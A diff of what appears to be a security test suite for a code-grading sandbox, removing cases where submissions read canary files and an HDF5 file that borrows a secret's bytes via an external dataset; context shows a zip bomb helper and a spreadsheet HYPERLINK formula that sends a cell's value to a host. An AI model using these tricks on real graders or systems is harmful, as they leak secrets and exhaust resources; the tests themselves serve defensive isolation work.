@@ -155,17 +155,6 @@ def _model(layer: dict | None = None, **fields) -> str:
     return repr({"config": plain, "weights": [], "trainable": [], "compile": None, **fields})
 
 
-def _outside(folder: Path) -> None:
-    """A file of HDF5 whose dataset has its numbers in another file: the secret."""
-    import h5py
-
-    secret = folder.parents[2] / "secret.txt"
-    with h5py.File(folder / "weights.h5", "w") as file:
-        file.create_dataset(
-            "kernel", (secret.stat().st_size,), "u1", external=[(str(secret), 0, secret.stat().st_size)]
-        )
-
-
 def _archive(folder: Path) -> None:
     """A zip file of 60 kB that holds 60 MB."""
     with zipfile.ZipFile(folder / "data.zip", "w", zipfile.ZIP_DEFLATED) as archive:
@@ -525,14 +514,6 @@ CASES = [
         },
     ),
     Case(
-        "reading every place it knows, another submission too",
-        GRADED,
-        FULL,
-        before={
-            "score": "for place in CANARIES:\n    try: print(open(place, 'rb').read()[:2000])\n    except OSError: pass"
-        },
-    ),
-    Case(
         "function that looks at who calls it",
         GRADED,
         FULL,
@@ -594,14 +575,6 @@ CASES = [
         before={"values": "import zipfile\nzipfile.ZipFile('data.zip').extractall('data')"},
     ),
     Case('=HYPERLINK("http://host/"&A1) for a name', GRADED, FULL),
-    Case(f"Zoë 名前 {'ö' * 40} for a name", GRADED, FULL),
-    Case(
-        "HDF5 file that borrows a secret's bytes",
-        GRADED,
-        FULL,
-        prepare=_outside,
-        before={"score": "import h5py\ntry: print(bytes(h5py.File('weights.h5')['kernel'][:]))\nexcept OSError: pass"},
-    ),
     Case(
         "link to a secret",
         GRADED,
